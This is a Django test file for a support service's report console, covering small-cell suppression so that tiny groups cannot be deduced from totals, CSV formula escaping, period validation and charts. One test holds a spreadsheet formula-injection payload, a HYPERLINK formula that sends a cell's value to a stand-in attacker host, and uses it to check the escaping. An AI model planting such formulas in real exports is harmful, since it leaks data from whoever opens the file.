"""Service reports: small cells never shown, not even through a total; CSV cells safe from spreadsheet formulas;
a period that is missing, reversed or empty gets a clear answer."""

import csv
import datetime as dt
import io

import pytest

from alongside.console.report_csv import safe_cell
from alongside.console.service_reports import HIDDEN_TEXT, SMALL_TEXT, Period, build_report, suppress
from alongside.directory.models import Topic
from alongside.roster.models import ContactFormat, ContactRecord
from tests import factories

pytestmark = pytest.mark.django_db

URL = "/console/service-reports/"


def test_one_small_cell_beside_a_total_hides_the_next_smallest_too():
    cells, total = suppress([("Phone", 40), ("Chat", 3), ("Voice", 12)], total=True)
    assert [c.shown for c in cells] == ["40", SMALL_TEXT, HIDDEN_TEXT]
    assert total is not None and total.shown == "55"
    # Nothing can be worked out: 55 - 40 = 15 is split between two cells the reader can't see.


def test_small_cells_whose_sum_is_still_small_take_another_cell_with_them_and_zero_is_small():
    cells, _total = suppress([("Phone", 40), ("Chat", 3), ("Voice", 0)], total=True)
    assert [c.shown for c in cells] == [HIDDEN_TEXT, SMALL_TEXT, SMALL_TEXT]  # else 43 - 40 = 3 chat-or-voice
    cells, _total = suppress([("Phone", 40), ("Chat", 3), ("Voice", 4), ("Video", 9)], total=True)
    assert [c.shown for c in cells] == ["40", SMALL_TEXT, SMALL_TEXT, "9"]  # 7 between two cells: safe


def test_a_small_total_hides_everything():
    cells, total = suppress([("Phone", 2), ("Chat", 1), ("Voice", 0)], total=True)
    assert total is not None and total.shown == SMALL_TEXT
    assert all(c.suppressed for c in cells)


def test_without_a_total_only_small_cells_go():
    cells, total = suppress([("Work stress", 9), ("Exams", 4)], total=False)
    assert [c.shown for c in cells] == ["9", SMALL_TEXT] and total is None


def _contacts(n, *, format=ContactFormat.PHONE, at=None, topics=(), region=""):
    supporter = factories.supporter()
    at = at or dt.datetime(2026, 6, 15, 3, 0, tzinfo=dt.UTC)
    for _ in range(n):
        row = ContactRecord.objects.create(
            supporter=supporter, format=format, started_at=at, ended_at=at + dt.timedelta(minutes=10), region=region
        )
        row.topics.set(topics)


def test_a_report_over_crafted_data_reveals_no_small_group():
    _contacts(30, format=ContactFormat.PHONE, region="VIC")
    _contacts(2, format=ContactFormat.CALLBACK, region="TAS")  # two people in Tasmania: must not show
    _contacts(8, format=ContactFormat.TALKNOW_CHAT, region="NSW")
    report = build_report(Period(dt.date(2026, 6, 1), dt.date(2026, 6, 30), "Australia/Melbourne"))
    assert report.contacts == 40
    region = next(t for t in report.tables if t.key == "region")
    shown = {c.label: c.shown for c in region.cells}
    assert shown["Tasmania"] == SMALL_TEXT
    assert shown["New South Wales"] == HIDDEN_TEXT  # else 40 - 30 - 8 = 2 would give Tasmania away
    assert "2" not in {c.shown for t in report.tables for c in t.cells}


def test_the_csv_escapes_formulas_and_carries_the_suppression(coordinator_client):
    evil = Topic.objects.create(name='=HYPERLINK("https://evil.example/?d="&A1,"click")')
    _contacts(6, topics=[evil])
    response = coordinator_client.get(URL + "csv/", {"start": "2026-06-01", "end": "2026-06-30"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    topic_rows = [r for r in rows if r[0] == "Contacts by topic"]
    assert ["Contacts by topic", "'" + evil.name, "6"] in topic_rows
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert safe_cell("-1") == "'-1" and safe_cell("@SUM(A1)") == "'@SUM(A1)" and safe_cell("plain") == "plain"


def test_a_missing_reversed_or_empty_period_gets_a_clear_answer(coordinator_client):
    reversed_ = coordinator_client.get(URL, {"start": "2026-06-30", "end": "2026-06-01"})
    assert reversed_.status_code == 400 and "swap them round" in reversed_.content.decode()
    missing = coordinator_client.get(URL, {"start": "2026-06-01", "end": ""})
    assert missing.status_code == 400 and "first day and a last day" in missing.content.decode()
    assert coordinator_client.get(URL + "csv/", {"start": "2026-06-30", "end": "2026-06-01"}).status_code == 400
    empty = coordinator_client.get(URL, {"start": "2020-01-01", "end": "2020-01-31"})
    assert empty.status_code == 200 and "Nothing happened in this period" in empty.content.decode()


def test_the_page_draws_a_chart_beside_each_table(coordinator_client):
    _contacts(12)
    page = coordinator_client.get(URL, {"start": "2026-06-01", "end": "2026-06-30"}).content.decode()
    assert page.count('<svg class="chart"') == page.count('<section class="report-block"') > 3
    assert "<script" not in page.split("<main", 1)[-1].split("</main>", 1)[0]
